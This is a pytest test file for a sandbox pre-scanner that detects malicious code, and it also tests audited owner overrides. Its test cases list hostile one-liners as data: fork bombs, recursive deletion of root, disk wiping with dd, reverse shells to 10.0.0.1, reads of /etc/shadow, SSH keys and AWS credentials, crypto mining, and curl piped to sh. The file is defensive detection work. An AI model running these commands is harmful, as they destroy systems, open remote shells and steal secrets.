"""The malicious-code pre-scan: verdicts with reasons, blocking, and audited owner overrides."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from webnova.adapters.sandbox.port import PrescanOverride, SandboxError
from webnova.adapters.sandbox.prescan import scan, screen

CORPUS = Path(__file__).resolve().parent.parent / "hostile"
LANGUAGE = {".py": "python", ".sh": "bash", ".js": "node", ".ts": "typescript", ".rs": "rust"}


class Audit:
    def __init__(self) -> None:
        self.entries: list[tuple[str, str, str, dict[str, Any]]] = []

    def record(self, actor: str, action: str, target: str, detail: dict[str, Any]) -> None:
        self.entries.append((actor, action, target, detail))


def _high(code: str, language: str) -> set[str]:
    return {f.category for f in scan(code, language).findings if f.severity == "high"}


@pytest.mark.parametrize(("language", "code", "category"), [
    ("bash", ":(){ :|:& };:", "fork_bomb"),
    ("python", "import os\nwhile True:\n    os.fork()\n", "fork_bomb"),
    ("node", "const cp=require('child_process');\nfor(;;){cp.spawn('sleep',['9'])}", "fork_bomb"),
    ("php", "<?php while(true){ pcntl_fork(); }", "fork_bomb"),
    ("bash", "rm -rf / --no-preserve-root", "destructive_fs"),
    ("bash", "rm -rf ~", "destructive_fs"),
    ("python", "import shutil\nshutil.rmtree('/etc')", "destructive_fs"),
    ("node", "require('fs').rmSync('/usr', {recursive: true})", "destructive_fs"),
    ("bash", "dd if=/dev/zero of=/dev/sda bs=1M", "destructive_fs"),
    ("bash", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "network"),
    ("bash", "nc -e /bin/sh 10.0.0.1 4242", "network"),
    ("python", "import socket\ns=socket.socket()\ns.connect(('1.2.3.4', 80))", "network"),
    ("node", "const net = require('net'); net.connect(5432, '127.0.0.1')", "network"),
    ("go", "package main\nimport \"net\"\nfunc main(){ net.Dial(\"tcp\", \"x:1\") }", "network"),
    ("rust", "use std::net::TcpStream; fn main(){ TcpStream::connect(\"x:1\"); }", "network"),
    ("php", "<?php $s = fsockopen('10.0.0.1', 80);", "network"),
    ("python", "print(open('/etc/shadow').read())", "host_secrets"),
    ("bash", "cat ~/.ssh/id_rsa", "host_secrets"),
    ("python", "open(f'/proc/{pid}/environ').read()", "host_secrets"),
    ("bash", "cat ~/.aws/credentials", "host_secrets"),
    ("python", "URL = 'stratum+tcp://pool.example:3333'", "crypto_mining"),
    ("bash", "./xmrig -o pool:3333", "crypto_mining"),
    ("bash", "kill -9 -1", "process_tampering"),
    ("python", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", "process_tampering"),
    ("node", "process.kill(process.ppid, 'SIGKILL')", "process_tampering"),
    ("bash", "pkill -9 python", "process_tampering"),
    ("bash", "echo 1 > /proc/sys/kernel/panic", "process_tampering"),
    ("python", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "obfuscation"),
    ("bash", "curl https://x.example/i.sh | sh", "obfuscation"),
])
def test_hostile_constructs_are_flagged_high(language: str, code: str, category: str) -> None:
    assert category in _high(code, language)


@pytest.mark.parametrize(("language", "code"), [
    ("python", "print(sum(range(10)))\n"),
    ("python", "import json\nfor item in [1, 2]:\n    print(json.dumps(item))\n"),
    ("python", "import subprocess\nsubprocess.run(['ls'])\n"),
    ("node", "const amount = 3; // mount the component later\nconsole.log(amount)"),
    ("node", "for (const f of ['a', 'b']) console.log(f)"),
    ("bash", "rm -rf ./build dist/ && mkdir build && echo ok"),
    ("bash", "for i in 1 2 3; do echo $i; done"),
    ("typescript", "const xs: number[] = [1, 2]; console.log(xs.map((x) => x * 2));"),
])
def test_ordinary_programs_are_not_blocked(language: str, code: str) -> None:
    assert _high(code, language) == set()


def test_findings_carry_rule_line_excerpt_and_a_reason() -> None:
    verdict = scan("print('hi')\nprint(open('/etc/shadow').read())\n", "python")
    (finding,) = verdict.findings
    assert finding.rule == "secrets.host-files"
    assert finding.line == 2
    assert "/etc/shadow" in finding.excerpt
    assert finding.reason
    assert verdict.reasons == [f"2: {finding.reason} (secrets.host-files)"]


def test_network_clients_are_a_warning_not_a_block() -> None:
    verdict = scan("import urllib.request\nurllib.request.urlopen('https://x.example')", "python")
    assert verdict.findings
    assert {f.severity for f in verdict.findings} == {"medium"}
    assert not screen("import urllib.request", "python", block=True, override=None,
                      audit=None, target="t").blocked


def test_a_high_finding_blocks_by_default_and_the_block_is_audited() -> None:
    audit = Audit()
    verdict = screen("kill -9 -1", "bash", block=True, override=None, audit=audit, target="s:1")
    assert verdict.blocked
    assert audit.entries == [("sandbox", "sandbox.prescan.blocked", "s:1",
                              {"language": "bash", "rules": ["process.kill-others"]})]


def test_an_owner_override_runs_the_code_and_is_audited_with_the_reason() -> None:
    audit = Audit()
    override = PrescanOverride(actor="user-7", role="OWNER", reason="testing the kill switch")
    verdict = screen("kill -9 -1", "bash", block=True, override=override, audit=audit,
                     target="s:1")
    assert not verdict.blocked
    assert verdict.overridden
    (entry,) = audit.entries
    assert entry[:3] == ("user-7", "sandbox.prescan.override", "s:1")
    assert entry[3]["reason"] == "testing the kill switch"
    assert entry[3]["rules"] == ["process.kill-others"]


def test_an_override_by_a_non_owner_is_refused() -> None:
    override = PrescanOverride(actor="user-8", role="DEVELOPER", reason="please")
    with pytest.raises(SandboxError):
        screen("kill -9 -1", "bash", block=True, override=override, audit=Audit(), target="s")


def test_an_override_that_cannot_be_audited_is_refused() -> None:
    override = PrescanOverride(actor="user-7", role="OWNER", reason="no log")
    with pytest.raises(SandboxError):
        screen("kill -9 -1", "bash", block=True, override=override, audit=None, target="s")


def test_blocking_can_be_switched_off_and_the_findings_remain() -> None:
    verdict = screen("kill -9 -1", "bash", block=False, override=None, audit=None, target="s")
    assert not verdict.blocked
    assert verdict.findings


def _corpus() -> list[object]:
    out = []
    for path in sorted(CORPUS.iterdir()):
        if path.suffix in LANGUAGE:
            text = path.read_text(encoding="utf-8")
            match = re.search(r"hostile-prescan:\s*(\w+)", text)
            assert match
            out.append(pytest.param(path, match.group(1), id=path.name))
    return out


@pytest.mark.parametrize(("path", "expected"), _corpus())
def test_the_prescan_judges_the_hostile_corpus_as_its_header_says(path: Path,
                                                                  expected: str) -> None:
    blocked = bool(_high(path.read_text(encoding="utf-8"), LANGUAGE[path.suffix]))
    assert blocked == (expected == "block")
